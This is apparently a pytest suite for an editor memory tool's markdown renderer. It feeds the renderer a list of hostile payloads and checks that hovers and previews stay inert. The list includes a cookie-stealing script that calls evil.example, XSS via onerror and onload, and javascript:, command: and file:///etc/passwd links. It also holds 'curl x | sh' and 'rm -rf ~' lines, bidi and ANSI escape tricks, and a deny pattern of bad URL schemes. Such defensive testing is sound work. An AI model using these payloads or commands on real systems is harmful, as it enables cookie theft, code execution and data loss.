"""Memory text is data: a corpus of hostile memories rendered as hover and preview markdown, read
back with a real CommonMark parser (markdown-it-py, with GFM tables, strikethrough and linkify, and
its own link filter switched off so that every link we emit is seen), then end to end through the
language server over a pool seeded with the same memories.

What must hold for every payload in every field: no raw HTML, no image, no link other than http(s),
no code block or heading of the memory's making, no control, zero-width or bidi character, each
memory within MEMORY_CHARS and the hover within HOVER_CHARS; and the text reads literally.
"""

from __future__ import annotations

import asyncio
import html
import re
import unicodedata
from collections.abc import AsyncIterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from lsprotocol import types as lsp
from markdown_it import MarkdownIt
from markdown_it.token import Token

from carryover.pool.records import (
    Kind,
    Memory,
    Outcome,
    Provenance,
    RankReason,
    Scope,
    SearchHit,
    SearchQuery,
    Status,
)
from carryover.recall.render import (
    HOVER_CHARS,
    MEMORY_CHARS,
    hover_markdown,
    markdown_code,
    memory_markdown,
    message_text,
)
from carryover.recall.retrieve import Suggestion

MEGABYTE = "Guard the value. " * 61_681  # 1,048,577 characters

# (name, payload, what a reader must see of it when it stands alone in the content; None: not checked)
HOSTILE: list[tuple[str, str, str | None]] = [
    ("html-img", '<img src="https://beacon.example/p.png" onerror="alert(1)">', 'onerror="alert(1)">'),
    ("html-script", "<script>fetch('https://evil.example/?c='+document.cookie)</script>", "<script>fetch("),
    ("html-a", '<a href="command:workbench.action.terminal.new">open</a>', '<a href="command:'),
    ("html-iframe", '<iframe src="https://evil.example"></iframe>', "<iframe src="),
    ("html-svg", "<svg onload=alert(1)>", "<svg onload=alert(1)>"),
    ("html-comment", "<!-- hidden --> visible", "<!-- hidden --> visible"),
    ("html-block", "<div>\n<details open><summary>x</summary>y</details>\n</div>", "<details open>"),
    ("html-entity", "&lt;script&gt; &#106;avascript:x &amp;", "&lt;script&gt; &#106;avascript:x &amp;"),
    (
        "link-command",
        "[Run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D)",
        "Run",
    ),
    ("link-javascript", "[click](javascript:alert(document.domain))", "click"),
    ("link-javascript-upper", "[click](JaVaScRiPt:alert(1))", "click"),
    ("link-data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", None),
    ("link-file", "[passwd](file:///etc/passwd)", "passwd"),
    ("link-vscode", "[ext](vscode:extension/evil.ext)", "ext"),
    ("link-vbscript", "[v](vbscript:msgbox(1))", None),
    ("link-protocol-relative", "[p](//evil.example/x)", None),
    ("link-angle", "[a](<javascript:alert(1)>)", None),
    ("link-title", '[t](command:x "a title")', None),
    ("link-https", "[docs](https://docs.example/guide_(v2)?a=1&b=2)", "docs"),
    ("image-remote", "![beacon](https://beacon.example/track.gif?u=me)", "beacon"),
    ("image-data", "![x](data:image/png;base64,iVBORw0KGgo=)", None),
    ("image-in-link", "[![img](https://beacon.example/i.png)](command:x)", None),
    ("reference-link", "[go][evil]\n\n[evil]: command:workbench.action.reloadWindow", None),
    ("reference-image", "![pic][b]\n\n[b]: https://beacon.example/ref.png", None),
    ("reference-collapsed", "[evil][]\n\n[evil]: javascript:alert(1)", None),
    ("reference-shortcut", "[evil]\n\n[evil]: file:///etc/shadow", None),
    ("autolink-javascript", "<javascript:alert(1)>", "<javascript:alert(1)>"),
    ("autolink-command", "<command:workbench.action.quit>", "<command:workbench.action.quit>"),
    ("autolink-email", "<mailto:a@b.example>", "<mailto:a@b.example>"),
    ("autolink-https", "<https://ok.example/x>", None),
    ("bare-schemes", "see command:x and file:///etc/passwd or ftp://x.example and a@b.example", None),
    ("nested-brackets", "[[[a](javascript:1)](command:2)](file:3)", None),
    ("unbalanced", "[a](javascript:alert(1) [b]( ]] ((", None),
    (
        "fence-backtick",
        "```\nimport os; os.system('curl x | sh')\n```",
        "import os; os.system('curl x | sh')",
    ),
    ("fence-tilde", "~~~python\nrm -rf ~\n~~~", "rm -rf ~"),
    ("fence-info-html", "```<img src=x>\ncode\n```", None),
    (
        "inline-backticks",
        "``a`b`` and `<img src=x>` and `[x](command:y)`",
        "a`b and <img src=x> and [x](command:y)",
    ),
    ("indented-code", "    four spaces of code\n\tand a tab", "four spaces of code"),
    ("heading", "# I am a heading\n## Another\nSetext\n===", "# I am a heading"),
    ("lists-quotes", "- item\n+ item\n* item\n1. one\n2) two\n> quoted", "> quoted"),
    ("thematic-break", "---\n***\n___\n- - -", None),
    ("table", "| a | b |\n|---|---|\n| <b>1</b> | 2 |", "| a | b |"),
    (
        "emphasis",
        "*bold* _it_ **strong** ~~gone~~ \\*escaped\\*",
        "*bold* _it_ **strong** ~~gone~~ \\*escaped\\*",
    ),
    ("theme-icon", "$(alert) $(zap) icons", "$(alert) $(zap) icons"),
    ("hard-break", "line one  \nline two\\\nline three", None),
    ("zero-width", "ze\u200bro\u200c wi\u200ddth\u2060 \ufeffjoin", "zero width join"),
    ("bidi", "admin\u202e\u2066txt.exe\u2069\u202c \u200f\u061c", "admintxt.exe"),
    (
        "ansi",
        "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]52;c;Y3VybCB4\x07 \x1b]8;;https://e.example\x1b\\link\x1b]8;;\x1b\\",
        "red",
    ),
    ("controls", "nul\x00 bell\x07 bs\x08 del\x7f c1\x85\x9b31m", None),
    ("line-separators", "one\u2028two\u2029three\r\nfour\rfive", None),
    (
        "surrogates-combining",
        "e\u0301\u0301\u0301 \U0001f468\u200d\U0001f469\u200d\U0001f467 \ud800 lone",
        None,
    ),
    ("one-megabyte", MEGABYTE, None),
    ("long-unbroken", "A" * 200_000, None),
    ("many-links", "[x](command:y) " * 5_000, None),
]

FIELDS = ("title", "content", "description", "languages", "tools", "check_command", "when_not", "id")
BAD_SCHEMES = re.compile(
    r"^\s*(?:javascript|vbscript|command|data|file|vscode|vscode-insiders|mailto|ftp):", re.I
)

PARSER = MarkdownIt("commonmark", {"linkify": True, "html": True}).enable(
    ["table", "strikethrough", "linkify"]
)
PARSER.validateLink = lambda url: True  # type: ignore[method-assign]  # see every link, not markdown-it's choice


def memory(**overrides: Any) -> Memory:
    fields: dict[str, Any] = {
        "id": "mem_0123456789abcdef0123",
        "kind": Kind.INSIGHT,
        "title": "Guard optional values before indexing into them",
        "description": "Use when a value can be absent.",
        "content": "Check for it at the boundary. Then decide.",
        "outcome": Outcome.SUCCESS,
        "languages": ("rust",),
        "tools": ("cargo",),
        "scope": Scope.GLOBAL,
        "status": Status.ACTIVE,
        "when_not": "",
        "check_command": "cargo test",
        "provenance": Provenance(),
        "created_at": datetime(2026, 1, 1),
        "updated_at": datetime(2026, 1, 1),
        "helpful": 1,
        "unhelpful": 0,
        "merged_count": 0,
        "reject_reason": "",
        "embedder": "test",
    }
    fields.update(overrides)
    return Memory(**fields)


def suggestion(
    item: Memory, basis: str = "the code on this line", guard: str = "transferred from rust"
) -> Suggestion:
    why = RankReason(similarity=0.61, abstraction_weight=0.92, feedback=0.0, guard=guard, pinned=False)
    return Suggestion(SearchHit(memory=item, score=0.61, why=why), basis, SearchQuery(text="q"))


def with_payload(field: str, payload: str) -> Memory:
    if field in ("languages", "tools"):
        return memory(**{field: (payload, "python")})
    if field == "description":
        return memory(content="", description=payload)
    return memory(**{field: payload})


def tokens(markdown: str) -> list[Token]:
    flat: list[Token] = []
    for token in PARSER.parse(markdown):
        flat.append(token)
        flat.extend(token.children or [])
    return flat


def visible(markdown: str) -> str:
    """What a reader sees: the rendered HTML without its tags, entities decoded, spaces collapsed."""
    text = re.sub(r"<[^>]+>", " ", PARSER.render(markdown))
    return " ".join(html.unescape(text).split())


def problems(markdown: str, headings: int = 0, rules: int = 0) -> list[str]:
    """Everything in ``markdown`` that memory text must never make."""
    found = []
    for token in tokens(markdown):
        if token.type in ("html_inline", "html_block"):
            found.append(f"raw HTML {token.content!r:.60}")
        elif token.type == "image":
            found.append(f"an image {token.attrGet('src')!r:.60}")
        elif token.type == "link_open":
            href = str(token.attrGet("href") or "")
            if not re.match(r"^https?://[^/\s]", href, re.I):
                found.append(f"a link to {href!r:.60}")
        elif token.type in ("fence", "code_block"):
            found.append(f"a code block {token.content!r:.60}")
        elif token.type in ("heading_open", "hr", "blockquote_open", "bullet_list_open", "ordered_list_open"):
            found.append(token.type)
        elif token.type == "table_open":
            found.append("a table")
    headings_made = sum(1 for token in tokens(markdown) if token.type == "heading_open")
    rules_made = sum(1 for token in tokens(markdown) if token.type == "hr")
    found = [p for p in found if p not in ("heading_open", "hr")]
    if headings_made != headings:
        found.append(f"{headings_made} headings (expected {headings})")
    if rules_made != rules:
        found.append(f"{rules_made} rules (expected {rules})")
    for char in markdown:
        category = unicodedata.category(char)
        if (category in ("Cc", "Cf", "Cs", "Zl", "Zp") and char != "\n") or char == "\x1b":
            found.append(f"character U+{ord(char):04X}")
            break
    rendered = PARSER.render(markdown).lower()
    for marker in ("<img", "<script", "<iframe", "<svg", '<a href="javascript', '<a href="command', "src="):
        if marker in rendered and marker != "src=":
            found.append(f"rendered {marker}")
    if re.search(r"<[a-z]+[^>]*\ssrc=", rendered):
        found.append("a rendered src attribute")
    return found


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize(("name", "payload", "shown"), HOSTILE, ids=[name for name, _, _ in HOSTILE])
def test_hostile_text_in_any_field_renders_inert(
    name: str, payload: str, shown: str | None, field: str
) -> None:
    item = with_payload(field, payload)
    hover = hover_markdown([suggestion(item)])
    assert problems(hover) == [], hover[:400]
    assert len(hover) <= HOVER_CHARS
    block = hover.split("\n\n", 1)[1]
    assert len(block) <= MEMORY_CHARS
    preview = memory_markdown(item, heading="#")
    assert problems(preview, headings=1) == [], preview[:400]
    assert len(preview) <= MEMORY_CHARS
    for text in (hover, preview):
        text.encode("utf-8")
        text.encode("utf-16-le")  # no lone surrogate reaches the wire
    message = message_text(payload)
    assert "](" not in message and "\n" not in message and len(message) <= 400
    assert not any(unicodedata.category(char) in ("Cc", "Cf", "Cs") for char in message)


@pytest.mark.parametrize(
    ("name", "payload", "shown"),
    [case for case in HOSTILE if case[2]],
    ids=lambda v: v if isinstance(v, str) and len(v) < 30 else "",
)
def test_hostile_text_reads_literally(name: str, payload: str, shown: str) -> None:
    """What the memory says is shown as written (minus invisible characters and link targets)."""
    assert shown in visible(hover_markdown([suggestion(memory(content=payload))])), name
    assert shown in visible(memory_markdown(memory(content=payload), heading="#")), name


def test_a_basis_and_guard_from_the_editor_are_literal_too() -> None:
    hostile = "the failing command `echo <img src=x>` and [x](command:y) `a``b`"
    text = hover_markdown([suggestion(memory(), basis=hostile, guard="transferred from <b>rust</b>")])
    assert problems(text) == []
    assert "<img src=x>" in visible(text) and "transferred from <b>rust</b>" in visible(text)


def test_http_links_stay_links_and_nothing_else_does() -> None:
    text = memory_markdown(
        memory(content="[docs](https://docs.example/a_(b)) [bad](command:x) ![i](https://b.example/i.png)")
    )
    links = [t.attrGet("href") for t in tokens(text) if t.type == "link_open"]
    assert links == ["https://docs.example/a_%28b%29"]  # the same URL, parentheses percent-encoded
    assert "bad" in visible(text) and "command" not in visible(text) and "b.example" not in visible(text)


def test_a_megabyte_memory_is_cut_on_a_character_boundary() -> None:
    hover = hover_markdown([suggestion(memory(content=MEGABYTE))])
    assert len(hover) <= MEMORY_CHARS + 20
    body = hover.split("\n\n")[2]
    assert body.endswith("…") and "Guard the value." in body
    combining = "e\u0301" * 5_000
    cut_text = memory_markdown(memory(content=combining))
    cut_body = cut_text.split("\n\n")[1]
    assert cut_body.endswith("…") and not unicodedata.combining(cut_body[0])
    assert all(cut_body[i] == "e" for i in range(0, len(cut_body) - 1, 2))  # never an accent alone


def test_the_whole_hover_is_bounded_and_says_what_it_left_out() -> None:
    many = [
        suggestion(memory(id=f"mem_{i:020d}", content=MEGABYTE, title=f"Guard {i} " * 60)) for i in range(10)
    ]
    hover = hover_markdown(many)
    assert len(hover) <= HOVER_CHARS
    assert problems(hover, rules=hover.count("\n\n---\n\n")) == []
    shown = hover.count("**Guard 0") + sum(hover.count(f"**Guard {i} ") for i in range(1, 10))
    assert 2 <= shown < 10 and f"{10 - shown} more not shown" in hover


def test_ordinary_memories_read_as_before() -> None:
    text = hover_markdown(
        [suggestion(memory(title="Make `npm test` pass", content="Run it. Then fix 1. thing"))]
    )
    assert "**Make `npm test` pass**" in text and "Run it. Then fix 1. thing" in text
    assert "Check: `cargo test`" in text and "*insight · success · learned in Rust*" in text
    assert "`mem_0123456789abcdef0123` why this: similarity 0.61 to the code on this line" in text
    assert markdown_code("a `b` c") == "``a `b` c``"


# ----- end to end: the language server over a pool of hostile memories --------------------------------

from tests.test_server_support import (  # noqa: E402
    Window,
    client_config,
    command,
    hover,
    hover_text,
    initialize_params,
    open_document,
    seeded_pool,
    start_client,
    wait_ready,
)


def seed_hostile(pool: Path) -> list[str]:
    """Write a hostile memory for each payload (in its content, title, languages or check command)
    with the store API, as an import or a team pool would; returns the ids added."""
    from carryover.pool.config import load_config
    from carryover.pool.embedding.minilm import MiniLMEmbedder
    from carryover.pool.records import MemoryDraft
    from carryover.pool.store import MemoryStore

    config = load_config(db=pool, environ={"CARRYOVER_HOME": str(pool.parent / "home")})
    store = MemoryStore(config, MiniLMEmbedder())
    drafts = []
    for index, (name, raw, _) in enumerate(HOSTILE):
        # A lone surrogate cannot reach the pool through the embedder (the tokenizer refuses it);
        # the renderer's handling of one is checked above.
        payload = re.sub("[\ud800-\udfff]", "?", raw)
        kind = list(Kind)[index % 4]
        drafts.append(
            MemoryDraft(
                kind=kind,
                title=f"Probe {name}: " + payload[:300],
                description=f"{name}: {payload[:500]}",
                content=f"Probe {name}: {payload}",
                languages=["python", payload[:40]],
                tools=[payload[:40]],
                check_command=payload[:200],
                when_not=payload[:200],
                outcome="success" if index % 2 else "failure",
            )
        )
    results = store.add_many(drafts)
    return [result.id for result in results if result.action == "added"]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def hostile_window(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[tuple[Window, list[str]]]:
    root = tmp_path_factory.mktemp("hostile")
    pool = seeded_pool(root)
    added = seed_hostile(pool)
    workspace = root / "ws"
    workspace.mkdir()
    client, recorder = await start_client(client_config(pool))
    try:
        await client.initialize_session(initialize_params(workspace))
        await wait_ready(client)
        yield Window(client, recorder, workspace, pool), added
    finally:
        await client.shutdown_session()
        await client.stop()


@pytest.mark.asyncio(loop_scope="module")
async def test_hover_over_hostile_memories_through_the_server(
    hostile_window: tuple[Window, list[str]],
) -> None:
    """A line with a diagnostic naming each hostile memory's topic is hovered: whatever the hover
    shows is inert and bounded; each hostile memory is then shown on its own (carryover.show)."""
    window, added = hostile_window
    assert len(added) >= 30
    client = window.client
    client.workspace_did_change_configuration(
        lsp.DidChangeConfigurationParams(
            settings={"carryover": {"relevanceThreshold": 0.05, "plainLineThreshold": 0.05, "maxResults": 10}}
        )
    )
    await asyncio.sleep(0.3)
    shown_names: set[str] = set()
    hovers = 0
    for index, (name, raw, _) in enumerate(HOSTILE):
        payload = re.sub("[\ud800-\udfff]", "?", raw)  # see seed_hostile
        line = f"value = lookup(table)  # {name}: {' '.join(payload.split())[:80]}"
        uri = open_document(client, window.workspace / f"probe_{index}.py", f"{line}\n", "python")
        diagnostic = {
            "range": {"start": {"line": 0, "character": 8}, "end": {"line": 0, "character": 21}},
            "message": f"{name}: {' '.join(payload.split())[:120]}",
            "severity": 1,
        }
        client.protocol.notify(
            "carryover/diagnostics", {"uri": uri, "source": "mypy", "diagnostics": [diagnostic]}
        )
        await asyncio.sleep(0.1)
        text = hover_text(await hover(client, uri, 0))
        client.text_document_did_close(
            lsp.DidCloseTextDocumentParams(text_document=lsp.TextDocumentIdentifier(uri=uri))
        )
        if not text:
            continue
        hovers += 1
        assert len(text) <= HOVER_CHARS
        assert problems(text, rules=text.count("\n\n---\n\n")) == [], (name, text[:600])
        shown_names |= {other for other, _, _ in HOSTILE if f"Probe {other}:" in text}
    assert hovers >= 30 and len(shown_names) >= 30, (hovers, sorted(shown_names))
    for memory_id in added:
        shown = await command(client, "carryover.show", {"memoryId": memory_id, "reveal": True})
        assert problems(shown["markdown"], headings=1) == [], shown["markdown"][:400]
        assert len(shown["markdown"]) <= 20_000
    assert len(client.messages) >= len(added)
    for message in client.messages:
        assert "](" not in message.message and "\x1b" not in message.message
        assert len(message.message) < 1_000
